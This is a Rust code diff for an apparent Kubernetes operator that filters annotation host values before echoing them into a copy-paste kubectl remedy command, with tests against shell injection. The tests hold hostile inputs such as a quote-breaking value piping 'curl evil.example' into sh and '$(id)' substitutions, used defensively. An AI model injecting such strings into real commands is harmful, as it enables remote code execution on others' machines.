@@ -7,6 +7,9 @@
 use gowindows_crds::names::ANNOTATION_HOSTS;
 use serde::{Deserialize, Serialize};
 
+/// Longest annotation that a message repeats.
+const LONGEST_REPEATED: usize = 200;
+
 /// What becomes of what an older version allowed.
 #[derive(Clone, Copy, Debug, Default, Deserialize, Serialize, PartialEq, Eq)]
 pub enum Enforcement {
@@ -52,7 +55,7 @@ impl Bindings {
             return Ok(None);
         }
         let Holder { field, namespace, name, hosts } = holder;
-        let all = hosts.map(str::trim).filter(|hosts| !hosts.is_empty()).map_or_else(|| host.clone(), |hosts| format!("{hosts},{host}"));
+        let all = hosts.and_then(repeatable).map_or_else(|| host.clone(), |hosts| format!("{hosts},{host}"));
         let remedy = format!(
             "If it is meant for that server: kubectl --namespace {namespace} annotate --overwrite secret {name} '{ANNOTATION_HOSTS}={all}'; or have the operator's owner list the host in gitHosts"
         );
@@ -65,6 +68,13 @@ impl Bindings {
             ))),
         }
     }
+}
+
+/// Hosts that stand in an annotation already, for a line that people copy into a shell: short, and with nothing in it that a shell knows. Of
+/// others the line says nothing, and whoever copies it sees what he replaces.
+fn repeatable(hosts: &str) -> Option<&str> {
+    let harmless = |c: char| c.is_ascii_alphanumeric() || ".:-, ".contains(c);
+    Some(hosts.trim()).filter(|hosts| !hosts.is_empty() && hosts.len() <= LONGEST_REPEATED && hosts.chars().all(harmless))
 }
 
 /// The host of a URL of git, with its port where that is not the usual one.
@@ -131,6 +141,11 @@ mod tests {
             "gitHosts",
         ] {
             assert!(refused.contains(part), "{part} in {refused}");
+        }
+        // What others wrote into an annotation becomes no part of a command, nor of a status without end.
+        for hosts in ["a.example.com'; curl evil.example | sh; '", "$(id)", "a`id`", &"a.example.com,".repeat(1000)] {
+            let refused = check(Some(hosts), &[], Enforcement::Enforce, "https://git.example.com/a").expect_err("refused");
+            assert!(refused.contains("'gowindows.dev/hosts=git.example.com'") && refused.len() < 500, "{refused}");
         }
         let told = check(None, &[], Enforcement::Warn, "https://git.example.com/a").expect("it goes on").expect("and is told");
         assert!(told.contains("will not be sent") && told.contains("'gowindows.dev/hosts=git.example.com'"), "{told}");
